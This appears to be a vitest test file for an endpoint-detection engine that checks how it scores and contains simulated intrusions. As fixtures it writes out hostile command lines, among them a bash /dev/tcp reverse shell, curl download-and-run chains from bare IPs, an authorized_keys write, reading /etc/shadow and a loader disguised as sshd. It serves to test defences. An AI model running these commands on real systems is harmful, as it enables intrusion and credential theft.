import { type EventCategory, type EventFields, Story } from '@yagura/protocol';
import { describe, expect, test } from 'vitest';
import { OWN_RULES } from '../../../test/fakes/own-rules.ts';
import { machine } from '../../../test/fakes/process-tree.ts';
import {
  applyExclusions,
  combineEvaluators,
  createBehaviourEvaluator,
  createIndicatorEvaluator,
  createNormaliser,
  createSigmaEvaluator,
  createStoryTracker,
  decideVerdict,
} from './index.ts';

const pack = createSigmaEvaluator(OWN_RULES);
const EICAR = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f';

/** The whole core, from observation to verdict, over a process tree that the test fills. */
function endpoint() {
  const m = machine();
  const clock = { time: 0, now: () => 1_700_000_000_000 + clock.time, monotonic: () => clock.time };
  let ids = 0;
  const newId = (): string => `id-${(ids += 1)}`;
  const protectedEntityIds = new Set<string>();
  const normaliser = createNormaliser({ newId, processes: m.tree });
  const knownBinary = (sha256: string): string | undefined =>
    sha256 === 'a'.repeat(64) ? '/usr/bin/sleep' : undefined;
  const evaluator = combineEvaluators(
    pack,
    createBehaviourEvaluator({ clock, processes: m.tree, knownBinary }),
    createIndicatorEvaluator([]),
  );
  const tracker = createStoryTracker({ clock, newId, processes: m.tree, protectedEntityIds: () => protectedEntityIds });

  function see(category: EventCategory, entityId: string, fields: EventFields = {}): void {
    clock.time += 10;
    const actor = m.tree.get(entityId);
    const normalised = normaliser.normalise(
      { logsource: { product: 'linux', category }, time: clock.now(), fields, ...(actor ? { pid: actor.pid } : {}) },
      actor,
    );
    if (!normalised.ok) throw new Error(normalised.code);
    const { kept } = applyExclusions(evaluator.evaluate(normalised.event), normalised.event, [], clock.now());
    tracker.apply(normalised.event, kept);
  }
  const run = (pid: number, parent: string, image: string, commandLine = image, fields: EventFields = {}): string => {
    const entityId = m.tree.add(pid, parent, image, { commandLine });
    see('process_creation', entityId, fields);
    return entityId;
  };
  const verdicts = () =>
    tracker.stories().map((story) => ({
      story: Story.parse(story),
      verdict: decideVerdict({
        story,
        mode: 'balanced',
        exclusions: [],
        containedLastHour: 0,
        now: clock.now(),
        renames: tracker.renames(story.storyId),
        protectedEntityIds,
      }),
    }));
  return { ...m, see, run, tracker, verdicts, protectedEntityIds };
}

describe('is found and stopped, at the right place', () => {
  test('a reverse shell that was started from a login', () => {
    const { alice, run, see, verdicts } = endpoint();
    const outer = run(300, alice, '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1');
    const inner = run(301, outer, '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1');
    see('network_connection', inner, { DestinationIp: '127.0.0.1', DestinationPort: 4444 });
    run(301, outer, '/usr/bin/bash', 'bash -i');
    run(302, inner, '/usr/bin/id');
    const [only, ...others] = verdicts();
    expect(others).toEqual([]);
    expect(only?.verdict).toMatchObject({
      decision: 'contain',
      rootEntityId: outer,
      furtherRootEntityIds: [],
      files: [],
    });
    expect(only?.story.detections.map(({ rule }) => rule.source)).toContain('behaviour');
  });

  test('a script that was fetched from a bare address and run from /tmp', () => {
    const { alice, run, see, verdicts } = endpoint();
    const curl = run(300, alice, '/usr/bin/curl', 'curl -so /tmp/s.sh http://127.0.0.1:8000/s.sh');
    see('network_connection', curl, { DestinationIp: '127.0.0.1', DestinationPort: 8000 });
    see('file_event', curl, { TargetFilename: '/tmp/s.sh' });
    const script = run(301, alice, '/usr/bin/dash', 'sh /tmp/s.sh');
    run(302, script, '/usr/bin/id');
    const [only] = verdicts();
    expect(only?.verdict).toMatchObject({ decision: 'contain', rootEntityId: script, files: ['/tmp/s.sh'] });
    expect(only?.story.processes.filter(({ context }) => !context).map(({ entityId }) => entityId)).toEqual(
      expect.arrayContaining([curl, script, 'e-302']),
    );
  });

  test('a web shell: the web server itself goes on', () => {
    const { nginx, run, see, verdicts } = endpoint();
    const shell = run(
      300,
      nginx,
      '/usr/bin/dash',
      'sh -c curl -s http://192.0.2.1/x -o /tmp/x; chmod +x /tmp/x; /tmp/x',
    );
    const curl = run(301, shell, '/usr/bin/curl', 'curl -s http://192.0.2.1/x -o /tmp/x');
    see('file_event', curl, { TargetFilename: '/tmp/x' });
    const payload = run(302, shell, '/tmp/x');
    see('file_event', payload, { TargetFilename: '/root/.ssh/authorized_keys' });
    const [only] = verdicts();
    expect(only?.verdict).toMatchObject({ decision: 'contain', rootEntityId: shell, files: ['/tmp/x'] });
    expect(only?.story.severity).toBe('critical');
  });

  test('a renamed copy of a system program', () => {
    const { alice, run, verdicts } = endpoint();
    const copy = run(300, alice, '/tmp/kworker', './kworker 60', { sha256: 'a'.repeat(64) });
    expect(verdicts()).toMatchObject([
      { verdict: { decision: 'contain', rootEntityId: copy, files: ['/tmp/kworker'] } },
    ]);
  });

  test('the harmless test: its own process and its file, nothing of the agent', () => {
    const { init, tree, run, see, tracker, verdicts, protectedEntityIds } = endpoint();
    const agent = tree.add(50, init, '/opt/yagura/node');
    protectedEntityIds.add(agent).add(init);
    const script = run(300, agent, '/usr/bin/dash', 'sh -c read -r _ && exec /bin/sh "$0" "$1"');
    tracker.markSafeTest(script);
    run(300, agent, '/usr/bin/dash', '/bin/sh /tmp/yagura-test-1/test-detection.sh /tmp/yagura-test-1');
    see('file_event', script, { TargetFilename: '/tmp/yagura-test-1/eicar.com' });
    see('file_event', script, { TargetFilename: '/tmp/yagura-test-1/eicar.com', sha256: EICAR });
    const [only] = verdicts();
    expect(only?.story).toMatchObject({ safeTest: true, severity: 'high' });
    expect(only?.verdict).toMatchObject({ decision: 'contain', rootEntityId: script });
    expect(only?.verdict.files).toContain('/tmp/yagura-test-1/eicar.com');
    expect(only?.story.files).toContainEqual(expect.objectContaining({ sha256: EICAR }));
  });
});

describe('is shown, but not stopped', () => {
  test('a new cron entry from a shell', () => {
    const { alice, run, see, verdicts } = endpoint();
    see('file_event', run(300, alice, '/usr/bin/dash', 'sh -c x'), { TargetFilename: '/etc/cron.d/backup' });
    expect(verdicts()).toMatchObject([{ story: { severity: 'medium' }, verdict: { reason: 'below_threshold' } }]);
  });

  test('password hashes printed by a person', () => {
    const { alice, run, see, verdicts } = endpoint();
    see('file_access', run(300, alice, '/usr/bin/cat', 'cat /etc/shadow'), { TargetFilename: '/etc/shadow' });
    const [only] = verdicts();
    expect(only).toMatchObject({ story: { severity: 'high', files: [] }, verdict: { reason: 'below_threshold' } });
  });

  test('an installer from a named host that registers a service', () => {
    const { alice, run, see, verdicts } = endpoint();
    const curl = run(300, alice, '/usr/bin/curl', 'curl -fsSL https://get.example.com -o /tmp/get.sh');
    see('file_event', curl, { TargetFilename: '/tmp/get.sh' });
    const installer = run(301, alice, '/usr/bin/dash', 'sh /tmp/get.sh');
    see('file_event', installer, { TargetFilename: '/etc/systemd/system/example.service' });
    see('file_event', installer, { TargetFilename: '/etc/cron.d/example' });
    see('file_event', installer, { TargetFilename: '/etc/profile.d/example.sh' });
    expect(verdicts().map(({ verdict }) => verdict.reason)).toEqual(['below_threshold']);
  });
});

describe('cannot be made a weapon', () => {
  test("a test file in somebody's home does not kill the backup that copies it", () => {
    const { alice, cron, run, see, verdicts } = endpoint();
    const job = run(300, cron, '/usr/bin/dash', '/bin/sh -c cp -a /home /backup');
    const copier = run(301, job, '/usr/bin/cp', 'cp -a /home /backup');
    const borg = run(302, job, '/usr/bin/python3.12', '/usr/bin/python3 /usr/bin/borg create /backup::x /home');
    see('file_event', copier, { TargetFilename: '/backup/home/mallory/x', sha256: EICAR });
    see('file_event', borg, { TargetFilename: '/backup/data/0/7', sha256: EICAR });
    const browser = run(303, alice, '/usr/lib/firefox/firefox');
    see('file_event', browser, { TargetFilename: '/home/alice/Downloads/x', sha256: EICAR });
    for (const { verdict } of verdicts()) {
      expect(verdict).toMatchObject({ decision: 'contain', furtherRootEntityIds: [] });
      expect(verdict).not.toHaveProperty('rootEntityId');
    }
    expect(verdicts().flatMap(({ verdict }) => verdict.files)).toEqual([
      '/backup/home/mallory/x',
      '/backup/data/0/7',
      '/home/alice/Downloads/x',
    ]);
  });

  test('what carried a listed file leads nothing else into the story', () => {
    const { alice, run, see, verdicts } = endpoint();
    const browser = run(303, alice, '/usr/lib/firefox/firefox');
    see('file_event', browser, { TargetFilename: '/home/alice/Downloads/x', sha256: EICAR });
    run(304, browser, '/usr/bin/xdg-open', 'xdg-open /home/alice/a.pdf');
    see('file_event', browser, { TargetFilename: '/home/alice/Downloads/holiday.jpg' });
    const [only, ...others] = verdicts();
    expect(others).toEqual([]);
    expect(only?.story.processes.filter(({ context }) => !context)).toHaveLength(1);
    expect(only?.story.files.map(({ path }) => path)).toEqual(['/home/alice/Downloads/x']);
  });

  test('a script that writes listed files is no carrier', () => {
    const { alice, run, see, verdicts } = endpoint();
    const script = run(300, alice, '/usr/bin/python3.12', 'python3 /tmp/drop.py');
    see('file_event', script, { TargetFilename: '/home/alice/x', sha256: EICAR });
    expect(verdicts()).toMatchObject([{ verdict: { decision: 'contain', rootEntityId: script } }]);
  });
});

describe('does not escape by', () => {
  test('renaming its own file, back and forth', () => {
    const { alice, run, see, verdicts } = endpoint();
    const copy = run(300, alice, '/tmp/kworker', './kworker 60', { sha256: 'a'.repeat(64) });
    const rename = (from: string, to: string) => see('file_rename', copy, { SourceFilename: from, TargetFilename: to });
    rename('/tmp/kworker', '/tmp/x');
    rename('/tmp/x', '/var/tmp/y');
    expect(verdicts()[0]?.verdict.files).toEqual(['/var/tmp/y']);
    rename('/var/tmp/y', '/tmp/kworker');
    expect(verdicts()[0]?.verdict.files).toEqual(['/tmp/kworker']);
  });

  test('renaming the folder in which its file lies', () => {
    const { alice, run, see, verdicts } = endpoint();
    const copy = run(300, alice, '/tmp/a/kworker', './kworker 60', { sha256: 'a'.repeat(64) });
    see('file_rename', copy, { SourceFilename: '/tmp/a', TargetFilename: '/tmp/b', IsDirectory: true });
    expect(verdicts()).toMatchObject([{ story: { files: [{ path: '/tmp/b/kworker', state: 'present' }] } }]);
    expect(verdicts()[0]?.verdict.files).toEqual(['/tmp/b/kworker']);
  });

  test('having the loader run the file that it fetched', () => {
    const { alice, run, see, verdicts } = endpoint();
    const curl = run(300, alice, '/usr/bin/curl', 'curl -so /tmp/p http://192.0.2.1:8000/p');
    see('network_connection', curl, { DestinationIp: '192.0.2.1', DestinationPort: 8000 });
    see('file_event', curl, { TargetFilename: '/tmp/p' });
    const loader = '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2';
    const payload = run(301, alice, loader, `${loader} --argv0 sshd --library-path /tmp/l /tmp/p -x`);
    expect(verdicts()).toMatchObject([{ verdict: { decision: 'contain', rootEntityId: payload, files: ['/tmp/p'] } }]);
  });
});

test('everyday work makes no story', () => {
  const { alice, cron, init, run, see, tree, verdicts } = endpoint();
  const apt = run(300, alice, '/usr/bin/apt-get', 'apt-get -y upgrade');
  const dpkg = run(301, apt, '/usr/bin/dpkg', 'dpkg --configure -a');
  see('file_event', dpkg, { TargetFilename: '/etc/cron.d/certbot' });
  see('file_event', dpkg, { TargetFilename: '/usr/lib/systemd/system/nginx.service' });
  const postinst = run(302, dpkg, '/usr/bin/dash', 'sh /var/lib/dpkg/info/nginx.postinst configure');
  run(303, postinst, '/usr/bin/systemctl', 'systemctl restart nginx');
  const job = run(304, cron, '/usr/bin/dash', '/bin/sh -c mysqldump app | gzip > /backup/app.sql.gz');
  see('file_event', run(305, job, '/usr/bin/gzip'), { TargetFilename: '/backup/app.sql.gz' });
  const node = tree.add(306, init, '/usr/bin/node');
  see('network_connection', node, { DestinationIp: '10.0.0.5', DestinationPort: 5432 });
  run(307, node, '/usr/bin/dash', 'sh -c git rev-parse HEAD');
  run(308, alice, '/usr/bin/vim.basic', 'vim /etc/crontab');
  expect(verdicts()).toEqual([]);
});
